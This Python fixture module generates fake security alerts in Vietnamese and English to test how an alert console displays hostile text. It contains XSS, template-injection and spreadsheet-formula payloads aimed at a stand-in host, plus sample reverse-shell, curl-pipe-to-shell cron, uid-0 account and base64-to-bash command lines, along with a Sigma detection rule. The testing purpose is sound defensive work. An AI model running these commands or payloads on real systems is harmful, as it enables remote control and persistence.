"""Alerts as an attacker would like them: every trick that has fooled a console or a person before."""

from __future__ import annotations

import random
import time
from typing import Any

NOW_US = int(time.time() * 1e6)

TRICKS: dict[str, str] = {
    "script": "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    "svg": "<svg/onload=alert(1)>\"'><iframe srcdoc='<script>parent.document.title=1</script>'>",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html alert(1)}",
    "rtl": "sh -c \u202e'hs.llehs esrever' \u2066# innocent\u2069 \u200b\u200bend",
    "ansi": "\x1b[2J\x1b[1;31mls\x1b[0m\x1b]0;owned\x07 -la \x00\x08\x7f\x9b31m",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click") @SUM(1) +1 -1',
    "arabic": "cat /srv/تقرير/الميزانية.txt && echo שלום",
    "zalgo": "l" + "\u0336\u0337\u0338" * 40 + "s",
    "lines": "python3 - <<'X'\nimport os\n\tos.system('id')\r\nX",
    "emoji": "echo 👩‍👩‍👧‍👦 🇻🇳 \U000e0041\U000e0042",
    "long": "curl -s http://198.51.100.7/" + "a1b2c3d4/" * 600,
    "unbroken": "x" * 5_000,
}

COMMANDS = [
    "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
    "/bin/sh -c echo '* * * * * root curl -fsSL http://198.51.100.7/a.sh | sh' > /etc/cron.d/sysupd",
    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));'
    'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
    "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backup2",
    "Failed password for invalid user admin from 203.0.113.45 port 51622 ssh2",
    "find / -perm -4000 -type f -exec ls -la {} ;",
    "base64 -d <<< aWQ7dW5hbWUgLWE= | bash",
    "ketoan : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/ketoan ; USER=root ; COMMAND=/bin/su",
]

RULES: list[tuple[str, str, str]] = [
    ("Mở kết nối ngược từ trình thông dịch lệnh", "Reverse shell from an interactive shell", "critical"),
    ("Tạo tác vụ cron bằng trình thông dịch lệnh", "Cron job written by a shell", "high"),
    ("Kết nối ngược bằng Python", "Reverse shell in Python", "critical"),
    ("Tạo tài khoản có quyền quản trị cao nhất", "Account created with user id 0", "high"),
    ("Đăng nhập SSH sai nhiều lần từ cùng một địa chỉ", "Repeated failed SSH log-ins", "medium"),
    ("Dò tìm tệp có quyền SUID", "Search for SUID files", "low"),
    ("Giải mã Base64 rồi chạy ngay", "Base64 decoded into a shell", "medium"),
    ("Nhập sai mật khẩu sudo nhiều lần", "Repeated sudo failures", "informational"),
]

HOSTS = [
    "cong-dich-vu-01",
    "vp-ubnd-xa-hoa-binh",
    "sokhcn-web2",
    "ketoan-pc7",
    "may-chu-thu-dien-tu-du-phong-02.tinh.local",
]
USERS = ["root", "www-data", "can.bo.mot", "ketoan", ""]

RULE_SOURCE = """title: {title}
id: {id}
status: experimental
description: A shell with its input and output on a network socket.
author: Lien Phong
logsource:
    product: linux
    category: process_creation
detection:
    shell:
        Image|endswith:
            - /bash   # interactive shells
            - /sh
        CommandLine|contains|all:
            - '/dev/tcp/'
            - '-i'
    filter_backup:
        ParentImage: /usr/lib/backup/run
        User: backup
    condition: shell and not filter_backup
falsepositives:
    - Administrators testing a connection
level: {level}
tags:
    - attack.execution
    - attack.t1059.004
"""


def alert(
    number: int, *, summary: str | None = None, host: str | None = None, user: str | None = None
) -> dict[str, Any]:
    """A whole alert (row and detail), the same for the same number."""
    chance = random.Random(number)
    vi, en, level = RULES[number % len(RULES)]
    last = NOW_US - number * 47_000_000 - chance.randrange(40_000_000)
    count = chance.choice([1, 1, 1, 2, 3, 7, 41, 1_284])
    rule_id = f"5f3c2a1e-0000-4000-8000-{number % len(RULES):012d}"
    command = COMMANDS[number % len(COMMANDS)] if summary is None else summary
    row: dict[str, Any] = {
        "id": f"{number:032x}",
        "rule_id": rule_id,
        "titles": {"vi": vi, "en": en},
        "level": level,
        "status": "open",
        "host": host or chance.choice(HOSTS),
        "agent": f"{number % 5:032x}",
        "node": "tinh/so-khcn/trung-tam-cntt",
        "label": "noi-bo",
        "user": chance.choice(USERS) if user is None else user,
        "count": count,
        "first_us": last - 3_600_000_000,
        "last_us": last,
        "received_us": last + 300_000,
        "detected_us": last + 420_000,
        "source_first_us": last - 3_602_000_000,
        "source_last_us": last - 2_000_000,
        "summary": command,
        "tags": ["attack.execution", "attack.t1059.004"],
        "version": 1,
        "descriptions": {
            "vi": "Một trình thông dịch lệnh có đầu vào và đầu ra nối với mạng: có kẻ điều khiển máy từ xa.",
            "en": "A shell with its input and output on a network socket: someone controls the machine from afar.",
        },
        "falsepositives": [{"vi": "Quản trị viên thử kết nối", "en": "Administrators testing a connection"}],
        "rule_source": RULE_SOURCE.format(title=en, id=rule_id, level=level),
        "events_total": count,
        "history": [],
    }
    row["events"] = [event(row, index) for index in reversed(range(min(count, 40)))]
    return row


def event(row: dict[str, Any], index: int) -> dict[str, Any]:
    """One event of an alert: the hostile text stands in several fields and in the raw line."""
    command = row["summary"]
    return {
        "event_id": f"{row['agent']}/{row['id']}/high/{index}/0",
        "time_us": row["last_us"] - index * 5_000_000,
        "received_us": row["last_us"] - index * 5_000_000 + 300_000,
        "fields": {
            "CurrentDirectory": "/var/www/html",
            "Image": "/usr/bin/bash",
            "CommandLine": command,
            "User": row["user"] or "root",
            "ProcessId": 48_211 + index,
            "ParentImage": "/usr/sbin/apache2",
            "ParentCommandLine": command[:2_000],
            "TerminalId": None,
            "arguments": command.split(" ")[:20],
        },
        "matched": ["Image", "CommandLine"],
        "raw": f'type=EXECVE msg=audit(1764000000.1:{index}): argc=3 a0="bash" a1="-c" a2={command}',
        "logsource": {"product": "linux", "category": "process_creation"},
        "origin": "kernel",
    }


def tricks() -> list[dict[str, Any]]:
    """One alert a trick: in the command line, the title, the host and the user at once."""
    found = []
    for number, (name, text) in enumerate(TRICKS.items()):
        row = alert(900_000 + number, summary=text, host=text[:64], user=text[:64])
        row["titles"] = {"vi": f"{name}: {text[:200]}", "en": f"{name}: {text[:200]}"}
        row["rule_id"] = "tricks"
        later = NOW_US - number * 1_000_000 - row["last_us"]
        for timed in (row, *row["events"]):
            timed.update({key: value + later for key, value in timed.items() if key.endswith("_us")})
        row["tags"] = [text[:100]]
        row["falsepositives"] = [{"vi": text, "en": text}]
        row["descriptions"] = {"vi": text, "en": text}
        row["history"] = [{"time_us": NOW_US, "person": text[:60], "action": "acknowledge", "note": text}]
        found.append(row)
    return found
